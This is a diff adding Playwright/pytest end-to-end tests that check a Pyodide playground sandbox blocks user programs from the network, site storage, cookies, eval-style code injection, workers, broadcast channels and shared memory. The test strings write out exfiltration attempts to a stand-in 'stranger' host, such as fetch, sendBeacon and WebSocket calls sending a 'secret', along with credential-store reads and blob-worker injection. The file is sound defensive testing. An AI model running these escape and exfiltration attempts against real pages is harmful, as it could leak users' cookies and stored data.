@@ -1,0 +1,194 @@
+"""What a program can reach from within: no port, no storage, no code made of text."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from e2e.safety.conftest import run
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page
+
+    from e2e.safety.conftest import Stranger
+
+pytestmark = pytest.mark.allow_console
+"""The browser tells of each refusal."""
+
+TRIES = """import js, json
+from pyodide.ffi import create_proxy, to_js
+
+found = {{}}
+
+async def attempt(name, act):
+    try:
+        result = act()
+        if hasattr(result, "__await__"):
+            result = await result
+        found[name] = "done"
+    except BaseException as error:
+        found[name] = "refused"
+
+ADDRESS = "{address}"
+options = {{"method": "POST", "mode": "no-cors", "body": "secret"}}
+options = to_js(options, dict_converter=js.Object.fromEntries)
+{body}
+await js.Promise.new(create_proxy(lambda resolve, _: js.setTimeout(resolve, 1000)))
+print("FOUND " + json.dumps(found))
+"""
+
+
+def tried(page: Page, body: str, address: str = "") -> dict[str, Any]:
+    """What became of each attempt of a program."""
+    said = run(page, TRIES.format(body=body, address=address))
+    line = next(line for line in said.splitlines() if line.startswith("FOUND "))
+    return dict(json.loads(line.removeprefix("FOUND ")))
+
+
+NETWORK = """
+await attempt("fetch", lambda: js.fetch(f"http://{ADDRESS}/fetch?secret"))
+await attempt("blind fetch", lambda: js.fetch(f"http://{ADDRESS}/blind", options))
+def request():
+    made = js.XMLHttpRequest.new()
+    made.open("GET", f"http://{ADDRESS}/xhr", False)
+    made.send()
+await attempt("XMLHttpRequest", request)
+await attempt("WebSocket", lambda: js.WebSocket.new(f"ws://{ADDRESS}/socket"))
+await attempt("EventSource", lambda: js.EventSource.new(f"http://{ADDRESS}/events"))
+await attempt("WebTransport", lambda: js.WebTransport.new(f"https://{ADDRESS}/transport").ready)
+await attempt("sendBeacon", lambda: js.navigator.sendBeacon(f"http://{ADDRESS}/beacon", "secret"))
+await attempt("importScripts", lambda: js.importScripts(f"http://{ADDRESS}/script.js"))
+await attempt("Image", lambda: setattr(js.Image.new(), "src", f"http://{ADDRESS}/image"))
+await attempt("RTCPeerConnection", lambda: js.RTCPeerConnection.new())
+await attempt("Worker", lambda: js.Worker.new(f"http://{ADDRESS}/worker.js"))
+await attempt("location", lambda: setattr(js, "location", f"http://{ADDRESS}/location"))
+await attempt("FontFace", lambda: js.FontFace.new("f", f"url(http://{ADDRESS}/font)").load())
+from pyodide.http import pyfetch
+await attempt("pyfetch", lambda: pyfetch(f"http://{ADDRESS}/pyfetch"))
+"""
+CONSTRUCTS = frozenset({"WebSocket", "EventSource", "location"})
+"""Objects that can be made where no byte leaves: the stranger's record says that none has."""
+
+
+def test_no_byte_of_a_program_reaches_another_port(playground: Page, stranger: Stranger) -> None:
+    found = tried(playground, NETWORK, stranger.address)
+    assert {name for name, became in found.items() if became == "done"} <= CONSTRUCTS
+    assert len(found) == 14
+    assert stranger.requests == []
+
+
+def test_a_program_reads_no_file_of_the_site_itself(playground: Page, server_url: str) -> None:
+    asked: list[str] = []
+    playground.context.on("request", lambda request: asked.append(request.url))
+    found = tried(playground, 'await attempt("page", lambda: js.fetch(ADDRESS))', f"{server_url}index.html")
+    assert found == {"page": "refused"}
+    assert [url for url in asked if url.endswith("index.html")] == []
+
+
+CODE = """
+await attempt("eval", lambda: js.eval("1 + 1"))
+await attempt("Function", lambda: js.Function.new("return 1")())
+await attempt("setTimeout", lambda: js.setTimeout("self.hit = 1", 0))
+await attempt("run_js", lambda: __import__("pyodide.code").code.run_js("1 + 1"))
+await attempt("importScripts of text", lambda: js.importScripts("data:text/javascript,self.hit = 1"))
+blob = js.Blob.new(to_js(["self.hit = 1; setInterval(() => {{}}, 1)"]))
+address = js.URL.createObjectURL(blob)
+await attempt("importScripts of a blob", lambda: js.importScripts(address))
+await attempt("Worker of a blob", lambda: js.Worker.new(address))
+await attempt("a policy of its own", lambda: js.trustedTypes.createPolicy("eglantine", js.Object.new()))
+await attempt("another policy", lambda: js.trustedTypes.createPolicy("mine", js.Object.new()))
+"""
+
+
+def test_a_program_makes_no_javascript_of_text_and_starts_no_worker(playground: Page) -> None:
+    found = tried(playground, CODE)
+    # A timer's text is dropped in silence: what it would have done shows whether it ran.
+    assert {name for name, became in found.items() if became == "done"} <= {"setTimeout"}
+    assert run(playground, "import js\nprint('hit' if hasattr(js, 'hit') else 'clean')").startswith("clean")
+
+
+STORAGE = """
+await attempt("caches", lambda: js.caches.open("eglantine-1"))
+await attempt("cache names", lambda: js.caches.keys())
+await attempt("localStorage", lambda: js.localStorage.getItem("eglantine-playground-1"))
+await attempt("sessionStorage", lambda: js.sessionStorage.length)
+await attempt("cookies", lambda: js.document.cookie)
+await attempt("cookieStore", lambda: js.cookieStore.getAll())
+await attempt("navigator.storage", lambda: js.navigator.storage.getDirectory())
+await attempt("navigator.locks", lambda: js.navigator.locks.query())
+await attempt("service worker", lambda: js.navigator.serviceWorker.getRegistrations())
+await attempt("parent", lambda: js.parent.document.title)
+await attempt("top", lambda: js.top.localStorage)
+await attempt("indexedDB", lambda: opened())
+"""
+OPENED = """
+def opened():
+    def begin(resolve, reject):
+        request = js.indexedDB.open("eglantine", 1)
+        request.onsuccess = lambda _: resolve("open")
+        request.onerror = lambda _: reject("error")
+    return js.Promise.new(create_proxy(begin))
+"""
+
+
+def test_a_program_finds_no_storage_of_the_site(playground: Page) -> None:
+    playground.evaluate(
+        """async () => {
+          localStorage.setItem("secret", "1");
+          await (await caches.open("secret")).put("secret", new Response("1"));
+        }"""
+    )
+    found = tried(playground, OPENED + STORAGE)
+    assert len(found) == 12
+    assert set(found.values()) == {"refused"}
+
+
+CHANNEL = """
+heard = []
+channel = js.BroadcastChannel.new("eglantine")
+channel.onmessage = create_proxy(lambda event: heard.append(event.data))
+channel.postMessage("from the program")
+await js.Promise.new(create_proxy(lambda resolve, _: js.setTimeout(resolve, 1500)))
+found["heard"] = heard
+"""
+
+
+def test_a_program_and_the_page_do_not_hear_each_other_over_a_channel(playground: Page) -> None:
+    playground.evaluate(
+        """() => {
+          self.overheard = [];
+          self.channel = new BroadcastChannel("eglantine");
+          self.channel.onmessage = ({ data }) => self.overheard.push(data);
+          self.chatter = setInterval(() => self.channel.postMessage("from the page"), 50);
+        }"""
+    )
+    assert tried(playground, CHANNEL) == {"heard": []}
+    assert playground.evaluate("self.overheard") == []
+
+
+MEMORY = """import js
+try:
+    shared = js.SharedArrayBuffer.new(8)
+except BaseException:
+    shared = js.WebAssembly.Memory.new(initial=1, maximum=1, shared=True).buffer
+for message in (shared, js.Object.fromEntries([["kind", "note"], ["json", shared]])):
+    try:
+        js.postMessage(message)
+    except BaseException as error:
+        print("refused", error)
+print("tried")
+"""
+
+
+def test_memory_that_a_program_shares_does_not_reach_the_page(playground: Page) -> None:
+    playground.evaluate(
+        """() => {
+          self.shared = [];
+          addEventListener("message", ({ data }) => self.shared.push(data));
+        }"""
+    )
+    assert "tried" in run(playground, MEMORY)
+    assert "42" in run(playground, "print(6 * 7)")
+    assert playground.evaluate("self.shared") == []
